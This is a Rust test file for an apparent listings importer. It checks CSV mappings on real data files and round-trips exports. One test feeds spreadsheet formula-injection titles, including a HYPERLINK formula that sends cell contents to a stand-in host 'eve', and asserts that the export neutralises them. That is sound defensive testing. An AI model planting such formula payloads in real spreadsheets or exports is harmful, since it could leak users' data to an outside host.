//! The shipped mappings, on the real files that they are for.
//!
//! The files lie in the folder that `KAVERET_DATA` names (by default
//! `../shared/data` beside the workspace). A user's machine does not have them:
//! there these tests say so and pass; with `CI=true` their absence is a failure.

use std::path::{Path, PathBuf};

use model::{Content, RecordId, RecordKind};

use super::keep::tests::Shelf;
use super::keep::{Keeper, Records};
use super::mapping::{Mapping, MappingFlags};
use super::{Drafts, Summary, read_table};
use crate::export;

fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn data(file: &str) -> Option<Vec<u8>> {
    let folder = std::env::var_os("KAVERET_DATA").map_or_else(|| workspace().join("../shared/data"), PathBuf::from);
    let path = folder.join(file);
    match std::fs::read(&path) {
        Ok(bytes) => Some(bytes),
        Err(error) if std::env::var("CI").is_ok_and(|ci| ci == "true") => panic!("{} is needed with CI=true: {error}", path.display()),
        Err(_) => {
            println!("skipped: {} is not there; set KAVERET_DATA to the folder of real data", path.display());
            None
        }
    }
}

fn drafts(file: &str, mapping: &str, bytes: &[u8]) -> Drafts {
    let mapping = Mapping::read(&workspace().join("docs/mappings").join(mapping)).unwrap();
    read_table(bytes, &mapping.with_flags(&MappingFlags::default()).unwrap(), file).unwrap()
}

fn import(shelf: &Shelf, drafts: Drafts) -> Summary {
    let mut keeper = Keeper::new(shelf, false);
    drafts.into_iter().for_each(|draft| keeper.take(draft).unwrap());
    keeper.finish().unwrap()
}

/// Imports a file twice, exports it, and imports both exports elsewhere.
fn check(file: &str, mapping: &str, kinds: &[(RecordKind, usize)], refused: &[&str]) -> Option<Shelf> {
    let bytes = data(file)?;
    let shelf = Shelf::default();
    let first = import(&shelf, drafts(file, mapping, &bytes));
    let found: Vec<_> = first.refused.iter().map(ToString::to_string).collect();
    assert_eq!(found, refused, "{file}");
    for (kind, expected) in kinds {
        assert_eq!(shelf.held.borrow().values().filter(|content| content.kind() == *kind).count(), *expected, "{file}: {kind}");
    }
    let again = import(&shelf, drafts(file, mapping, &bytes));
    assert_eq!((again.added, again.changed, again.unchanged), (0, 0, first.added), "{file}");

    let (csv, json) = export_of(&shelf);
    let [from_csv, from_json] = [1, 2].map(|city| Shelf { city, ..Shelf::default() });
    import(&from_csv, read_table(&csv, &Mapping::default(), "export.csv").unwrap());
    import(&from_json, super::entries::read(&json, "export.json").unwrap());
    assert_same(&from_csv, &shelf);
    assert_same(&from_json, &shelf);
    let back = import(&shelf, read_table(&csv, &Mapping::default(), "export.csv").unwrap());
    assert_eq!((back.added, back.changed, back.unchanged, back.refused.len()), (0, 0, first.added, 0), "{file}");
    Some(shelf)
}

fn export_of(shelf: &Shelf) -> (Vec<u8>, Vec<u8>) {
    let ids: Vec<RecordId> = shelf.held.borrow().keys().copied().collect();
    let mut records: Vec<_> = ids.into_iter().map(|id| shelf.show(id).unwrap().unwrap()).collect();
    export::sort(&mut records);
    export::tests::both(&records)
}

/// Whether both hold the same; names the first record that differs.
fn assert_same(one: &Shelf, other: &Shelf) {
    let (one, other) = (contents(one), contents(other));
    assert_eq!(one.len(), other.len());
    one.iter().zip(&other).for_each(|(one, other)| assert_eq!(one, other));
}

fn contents(shelf: &Shelf) -> Vec<String> {
    let mut contents: Vec<_> = shelf.held.borrow().values().map(|content| serde_json::to_string(content).unwrap()).collect();
    contents.sort();
    contents
}

fn find(shelf: &Shelf, source: &str) -> Content {
    shelf.held.borrow().values().find(|content| content.text("source") == source).unwrap().clone()
}

#[test]
fn sixty_time_banks() {
    let Some(shelf) = check("timebanks/listings.csv", "timebanks.toml", &[(RecordKind::OFFER, 1244), (RecordKind::REQUEST, 1016)], &[])
    else {
        return;
    };
    let canning = find(&shelf, "timebanks#aneycounty/offer/2");
    assert_eq!(canning.title(), "canning lessons");
    assert_eq!(canning.words("skills").collect::<Vec<_>>(), ["Classes / Workshops", "Cooking & Sewing", "Education", "Help At Home"]);
}

#[test]
fn hebrew_programmes() {
    let Some(shelf) = check("gefen_he/programs.csv", "gefen_he.toml", &[(RecordKind::OFFER, 646)], &[]) else { return };
    assert_eq!(find(&shelf, "gefen#814").title(), "מועדון הטייסת");
}

#[test]
fn czech_courses() {
    check("cz_teacher_courses/courses.csv", "cz_teacher_courses.toml", &[(RecordKind::OFFER, 82)], &[]);
}

#[test]
fn challenges_of_madrid() {
    let Some(shelf) = check("decide_madrid/proposals.csv", "decide_madrid.toml", &[(RecordKind::CHALLENGE, 80)], &[]) else { return };
    assert_eq!(find(&shelf, "decide-madrid#MAD-2015-09-7").title(), "Limpiar las calles");
}

#[test]
fn places_with_coordinates() {
    let Some(shelf) = check("geonames_il_cz/places.csv", "geonames_il_cz.toml", &[(RecordKind::CHALLENGE, 3478)], &[]) else { return };
    let prague = find(&shelf, "geonames#3067696");
    assert_eq!((prague.text("place"), prague.text("cell")), ("Prague", "u2fkb"));
}

#[test]
fn a_spreadsheet_computes_nothing_that_others_wrote_and_the_import_reads_it_as_they_did() {
    let shelf = Shelf::default();
    let titles = ["=HYPERLINK(\"http://eve\"&A1)", "+1", "'-1", "@SUM(A1)", "'tis", "Guitar"];
    let offers = titles.map(|title| (None, Content::new(RecordKind::OFFER).and_then(|offer| offer.with("title", title)).unwrap()));
    shelf.save_all(offers.to_vec()).unwrap();
    let (csv, _) = export_of(&shelf);
    let rows = csv::Reader::from_reader(&csv[..]).into_records().collect::<Result<Vec<_>, _>>().unwrap();
    assert_eq!(rows.len(), titles.len());
    let cells = || rows.iter().flatten();
    assert!(cells().all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{rows:?}");
    assert!(cells().any(|cell| cell == "'=HYPERLINK(\"http://eve\"&A1)"));
    let back = Shelf { city: 1, ..Shelf::default() };
    import(&back, read_table(&csv, &Mapping::default(), "export.csv").unwrap());
    // What had no source has one now: its row.
    let titles_of = |shelf: &Shelf| {
        let mut titles: Vec<_> = shelf.held.borrow().values().map(|content| content.title().to_owned()).collect();
        titles.sort();
        titles
    };
    assert_eq!(titles_of(&back), titles_of(&shelf));
}
